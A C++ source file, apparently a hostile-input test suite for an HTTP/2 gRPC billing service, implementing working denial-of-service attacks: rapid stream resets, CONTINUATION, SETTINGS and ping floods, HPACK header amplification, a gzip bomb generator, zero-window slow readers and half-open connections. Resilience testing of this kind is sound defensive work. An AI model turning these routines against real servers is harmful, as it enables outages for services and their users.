#include "tests/hostile/attacks.h"

#include <zlib.h>

#include <cstdint>
#include <memory>
#include <random>
#include <string_view>
#include <system_error>
#include <utility>

#include "absl/time/clock.h"
#include "absl/time/time.h"
#include "tests/end_to_end/http2_frames.h"
#include "tests/end_to_end/raw_http2.h"

namespace owo {
namespace {

using Stop = std::atomic<bool>;

constexpr char kTrack[] = "/owo.billing.v1.Metering/Track";
constexpr char kListPlans[] = "/owo.billing.v1.Catalog/ListPlans";
constexpr uint32_t kStreamMax = 0x7fffffff;
constexpr absl::Duration kPause = absl::Milliseconds(5);

std::string Repeat(const std::string& text, int times) {
  std::string all;
  for (int i = 0; i < times; ++i) all += text;
  return all;
}

// Returns null if the server accepts no connection now.
std::unique_ptr<RawSocket> Connect(const std::string& endpoint) {
  try {
    return std::make_unique<RawSocket>(
        endpoint, RawSocketOptions{.source = kHostileAddress, .timeout_ms = 200});
  } catch (const std::system_error&) {
    absl::SleepFor(kPause);
    return nullptr;
  }
}

// An HTTP/2 connection, and a new one after the server has closed it.
class Peer {
 public:
  // Each connection begins with these settings and these frames.
  explicit Peer(std::string endpoint, std::string settings = "", std::string first = "")
      : endpoint_(std::move(endpoint)), settings_(std::move(settings)), first_(std::move(first)) {}

  bool Send(std::string_view bytes) {
    if (socket_ == nullptr) {
      socket_ = Connect(endpoint_);
      if (socket_ == nullptr) return false;
      socket_->Send(kHttp2Preface + Http2Frame(Http2Type::kSettings, 0, 0, settings_) + first_);
    }
    if (socket_->Send(bytes)) return true;
    socket_ = nullptr;
    return false;
  }
  void Discard() const {
    if (socket_ != nullptr) socket_->Discard();
  }
  // The next stream of the connection. A new connection may begin with any.
  uint32_t NextStream() {
    const uint32_t stream = next_stream_;
    next_stream_ += 2;
    if (next_stream_ > kStreamMax) {
      socket_ = nullptr;
      next_stream_ = 1;
    }
    return stream;
  }

 private:
  const std::string endpoint_;
  const std::string settings_;
  const std::string first_;
  std::unique_ptr<RawSocket> socket_;
  uint32_t next_stream_ = 1;
};

// Begins a connection with `first`, and sends `again` again and again; reads what comes if `reads`.
auto Flood(std::string first, std::string again, bool reads) {
  return [first, again, reads](const std::string& endpoint, const Stop& stop) {
    Peer peer(endpoint, "", first);
    while (!stop) {
      peer.Send(again);
      if (reads) peer.Discard();
    }
  };
}

// Opens streams one after another: `frames` makes the frames of one.
auto Streams(std::function<std::string(uint32_t)> frames, int at_once) {
  return [frames, at_once](const std::string& endpoint, const Stop& stop) {
    Peer peer(endpoint);
    while (!stop) {
      std::string all;
      for (int i = 0; i < at_once; ++i) all += frames(peer.NextStream());
      peer.Send(all);
      peer.Discard();
    }
  };
}

std::string ResetStream(uint32_t stream) {
  return Http2Frame(Http2Type::kHeaders, kEndHeaders, stream, CallHeaders(kTrack)) +
         Http2Frame(Http2Type::kReset, 0, stream, BigEndian(8, 4));
}

std::string LargeHeaders(uint32_t stream) {
  std::string headers = CallHeaders(kTrack);
  for (int i = 0; i < 15; ++i) {
    headers += Http2Header("x-large-" + std::to_string(i), std::string(900, 'v'));
  }
  return Http2Frame(Http2Type::kHeaders, kEndHeaders | kEndStream, stream, headers);
}

// Names one entry of the table of headers, of 4,000 bytes, 12,000 times: 48 MB of headers.
std::string ManyReferences(uint32_t stream) {
  const std::string entry = "\x40\x03x-a" + Http2Header("", std::string(4000, 'v')).substr(2);
  return Http2Frame(Http2Type::kHeaders, kEndHeaders | kEndStream, stream,
                    CallHeaders(kTrack) + entry + std::string(12'000, '\xbe'));
}

std::string CompressedCall(uint32_t stream) {
  static const std::string bomb = GzipBomb(64).substr(0, 60'000);
  const std::string headers = CallHeaders(kTrack) + Http2Header("grpc-encoding", "gzip");
  std::string frames = Http2Frame(Http2Type::kHeaders, kEndHeaders, stream, headers);
  for (size_t at = 0; at < bomb.size(); at += kFrameBytesMax) {
    const bool last = at + kFrameBytesMax >= bomb.size();
    frames += Http2Frame(Http2Type::kData, last ? kEndStream : 0, stream,
                         std::string_view(bomb).substr(at, kFrameBytesMax));
  }
  return frames;
}

// Many calls with a window of 0: no answer can be sent. The settings of the server are not
// acknowledged, so the server must not rely on the peer keeping to them.
void SlowReaders(const std::string& endpoint, const Stop& stop) {
  const std::string no_window = BigEndian(kInitialWindowSize, 2) + BigEndian(0, 4);
  std::vector<std::unique_ptr<Peer>> peers;
  for (int i = 0; i < 30 && !stop; ++i) {
    peers.push_back(std::make_unique<Peer>(endpoint, no_window));
    for (int k = 0; k < 200; ++k) {
      const uint32_t stream = peers.back()->NextStream();
      peers.back()->Send(
          Http2Frame(Http2Type::kHeaders, kEndHeaders, stream, CallHeaders(kListPlans)) +
          Http2Frame(Http2Type::kData, kEndStream, stream, GrpcMessage("")));
    }
  }
  while (!stop) absl::SleepFor(kPause);
}

// Opens streams, and never ends a request nor acknowledges settings.
void OpenStreams(const std::string& endpoint, const Stop& stop) {
  Peer peer(endpoint);
  while (!stop) {
    const uint32_t stream = peer.NextStream();
    peer.Send(Http2Frame(Http2Type::kHeaders, kEndHeaders, stream, CallHeaders(kTrack)));
    peer.Discard();
    if (stream % 1000 == 1) absl::SleepFor(kPause);
  }
}

// Connections that send nothing, or the beginning of something.
void HalfOpen(const std::string& endpoint, const Stop& stop) {
  constexpr size_t kConnections = 600;
  std::vector<std::unique_ptr<RawSocket>> sockets;
  for (size_t i = 0; i < kConnections && !stop; ++i) {
    sockets.push_back(Connect(endpoint));
    if (sockets.back() != nullptr && i % 2 == 1) sockets.back()->Send("PRI * HT");
  }
  while (!stop) absl::SleepFor(kPause);
}

// One short-lived connection after another, each with what `bytes` makes.
auto Connections(std::function<std::string()> bytes) {
  return [bytes](const std::string& endpoint, const Stop& stop) {
    while (!stop) {
      const std::unique_ptr<RawSocket> socket = Connect(endpoint);
      if (socket == nullptr) continue;
      socket->Send(bytes());
      socket->Discard();
      absl::SleepFor(absl::Microseconds(200));
    }
  };
}

std::string RandomBytes() {
  static std::minstd_rand random(4711);
  std::string bytes(2000, '\0');
  for (char& byte : bytes) byte = static_cast<char>(random() >> 8);
  return random() % 2 == 0 ? bytes
                           : kHttp2Preface + Http2Frame(Http2Type::kSettings, 0, 0, "") + bytes;
}

}  // namespace

std::string GzipBomb(size_t mib) {
  // After a full flush the stream does not refer to what is before: the block can be repeated.
  std::string zeros(1 << 20, '\0');
  std::string block(1 << 14, '\0');
  z_stream stream{};
  constexpr int kGzip = 31;
  deflateInit2(&stream, Z_BEST_COMPRESSION, Z_DEFLATED, kGzip, 8, Z_DEFAULT_STRATEGY);
  std::string deflated;
  for (const bool is_first : {true, false}) {
    stream.next_in = reinterpret_cast<Bytef*>(zeros.data());
    stream.avail_in = static_cast<uInt>(zeros.size());
    stream.next_out = reinterpret_cast<Bytef*>(block.data());
    stream.avail_out = static_cast<uInt>(block.size());
    deflate(&stream, Z_FULL_FLUSH);
    const std::string part = block.substr(0, block.size() - stream.avail_out);
    deflated += is_first ? part : Repeat(part, static_cast<int>(mib) - 1);
  }
  deflateEnd(&stream);
  return GrpcMessage(deflated, true);
}

std::vector<Attack> Attacks() {
  const std::string opened = Http2Frame(Http2Type::kHeaders, 0, 1, CallHeaders(kTrack));
  const std::string continuation = Http2Frame(Http2Type::kContinuation, 0, 1,
                                              Repeat(Http2Header("x", std::string(900, 'y')), 15));
  const std::string settings = Http2Frame(Http2Type::kSettings, 0, 0,
                                          BigEndian(kInitialWindowSize, 2) + BigEndian(65535, 4));
  const std::string ping = Http2Frame(Http2Type::kPing, 0, 0, "12345678");
  return {
      {"rapid resets", Streams(ResetStream, 50)},
      {"a CONTINUATION flood", Flood(opened, Repeat(continuation, 8), true)},
      {"a flood of empty CONTINUATIONs",
       Flood(opened, Repeat(Http2Frame(Http2Type::kContinuation, 0, 1, ""), 1000), true)},
      {"a SETTINGS flood", Flood("", Repeat(settings, 500), true)},
      {"a SETTINGS flood whose answers nobody reads", Flood("", Repeat(settings, 500), false)},
      {"a ping flood", Flood("", Repeat(ping, 500), true)},
      {"a ping flood whose answers nobody reads", Flood("", Repeat(ping, 500), false)},
      {"streams that never end, without acknowledged SETTINGS", OpenStreams},
      {"large headers", Streams(LargeHeaders, 4)},
      {"references to large headers", Streams(ManyReferences, 1)},
      {"compressed messages", Streams(CompressedCall, 1)},
      {"slow readers", SlowReaders},
      {"half-open connections", HalfOpen},
      {"HTTP/1.1", Connections([] { return "GET / HTTP/1.1\r\nHost: localhost\r\n\r\n"; })},
      {"random bytes", Connections(RandomBytes)},
  };
}

}  // namespace owo
